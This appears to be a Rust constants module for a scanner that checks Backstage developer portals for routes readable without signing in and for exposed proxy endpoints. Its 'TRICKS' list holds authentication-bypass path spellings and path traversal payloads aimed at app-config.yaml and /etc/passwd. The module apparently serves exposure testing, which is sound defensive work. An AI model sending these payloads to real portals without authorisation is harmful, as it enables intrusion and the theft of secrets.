//! What is asked for.

/// Routes of core and common plugins that answer with data.
pub(crate) const ROUTES: &[&str] = &[
    "/api/catalog/entities?limit=1",
    "/api/catalog/entities/by-query?limit=1",
    "/api/catalog/entity-facets?facet=kind",
    "/api/catalog/locations",
    "/api/catalog/entities/unprocessed/failed",
    "/api/catalog/.backstage/scheduler/v1/tasks",
    "/api/catalog/.backstage/actions/v1/actions",
    "/api/scaffolder/v2/tasks",
    "/api/scaffolder/v2/actions",
    "/api/scaffolder/.backstage/actions/v1/actions",
    "/api/techdocs/metadata/techdocs/default/component/none",
    "/api/techdocs/static/docs/default/component/none/index.html",
    "/api/search/query?term=",
    "/api/search/.backstage/scheduler/v1/tasks",
    "/api/kubernetes/clusters",
    "/api/kubernetes/proxy/version",
    "/api/devtools/info",
    "/api/devtools/config",
    "/api/devtools/external-dependencies",
    "/api/notifications/status",
    "/api/user-settings/buckets/none/keys/none",
    "/api/permission/policies",
    "/api/permission/roles",
    "/api/mcp-actions/v1",
    "/api/argocd/find/name/none",
    "/api/jenkins/v1/entity/default/component/none/projects",
    "/api/sonarqube/instanceUrl",
    "/api/todo/v1/todos",
    "/api/tech-insights/checks",
    "/api/entity-feedback/ratings",
    "/api/explore/tools",
    "/api/linguist/entity-languages",
    "/api/lighthouse/v1/websites",
    "/api/vault/v1/secrets/none",
    "/api/kafka/consumers/none/none/offsets",
    "/api/announcements/announcements",
    "/api/dynamic-plugins-info/loaded-plugins",
    "/api/orchestrator/v2/workflows/overview",
    "/metrics",
];

/// The route that every portal has, and that nobody may read without signing in.
pub(crate) const CATALOG: &str = "/api/catalog/entities?limit=1";

/// A path that no plugin serves: what is answered there says nothing.
pub(crate) const CONTROL: &str = "/api/stagedoor-check/none";

/// What a guest is let have is asked for on these.
pub(crate) const GUEST: &[&str] = &[
    CATALOG,
    "/api/catalog/locations",
    "/api/scaffolder/v2/tasks",
    "/api/search/query?term=",
    "/api/kubernetes/clusters",
    "/api/devtools/config",
    "/api/notifications/status",
];

/// A read of a cluster that its API server answers nobody who is not signed in there.
pub(crate) const CLUSTER: &str = "/api/kubernetes/proxy/api/v1/namespaces?limit=1";

/// A proxy endpoint that there is not.
pub(crate) const PROXY_CONTROL: &str = "/api/proxy/stagedoor-check-none";

/// Names that proxy endpoints often have.
pub(crate) const PROXIES: &[&str] = &[
    "grafana/api",
    "argocd/api",
    "prometheus/api",
    "pagerduty",
    "jenkins/api",
    "sonarqube",
    "jira/api",
    "confluence",
    "circleci/api",
    "gitlab",
    "github",
    "azure-devops",
    "datadog",
    "dynatrace",
    "newrelic/apm/api",
    "sentry/api",
    "opsgenie/api",
    "rollbar/api",
    "splunk",
    "vault",
    "lighthouse",
    "elasticsearch",
    "kiali",
    "servicenow",
    "quay/api",
    "jfrog-artifactory",
    "nexus-repository-manager",
    "developer-hub",
];

/// Other spellings of the path of the catalog, and ways to files outside of what is served.
pub(crate) const TRICKS: &[&str] = &[
    "/api/catalog/../catalog/entities?limit=1",
    "/api/catalog/%2e%2e/catalog/entities?limit=1",
    "/api/catalog/..%2fcatalog/entities?limit=1",
    "/api//catalog/entities?limit=1",
    "//api/catalog/entities?limit=1",
    "/api/catalog//entities?limit=1",
    "/API/catalog/entities?limit=1",
    "/api/Catalog/entities?limit=1",
    "/api/catalog/Entities?limit=1",
    "/api/catalog/entities/?limit=1",
    "/api/catalog/./entities?limit=1",
    "/api/catalog/entities;a=b?limit=1",
    "/api/catalog/entities.?limit=1",
    "/api/catalog/entities%20?limit=1",
    "/api/catalog/%65ntities?limit=1",
    "/api/catalog%2fentities?limit=1",
    "/api/catalog/entities%00?limit=1",
    "/api/catalog/entities.json?limit=1",
    "/health/../api/catalog/entities?limit=1",
    "/api/app/../catalog/entities?limit=1",
    "/api/auth/..%2fcatalog/entities?limit=1",
    "/api/techdocs/static/docs/default/component/none/..%2f..%2f..%2f..%2fapp-config.yaml",
    "/api/techdocs/static/docs/default/component/none/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%2f..%2f..%2fapp-config.yaml",
    "/static/../../../../etc/passwd",
];

/// Sign-in providers that are asked for where the first page names none.
pub(crate) const PROVIDERS: &[&str] = &["github", "google", "microsoft"];

/// Providers that start no sign-in: they hand out an identity at once, or take it from what stands in front.
pub(crate) const IMMEDIATE: &[&str] =
    &["guest", "oauth2Proxy", "oauth2proxy", "gcpIap", "gcp-iap", "awsalb", "cfaccess", "azureEasyAuth"];
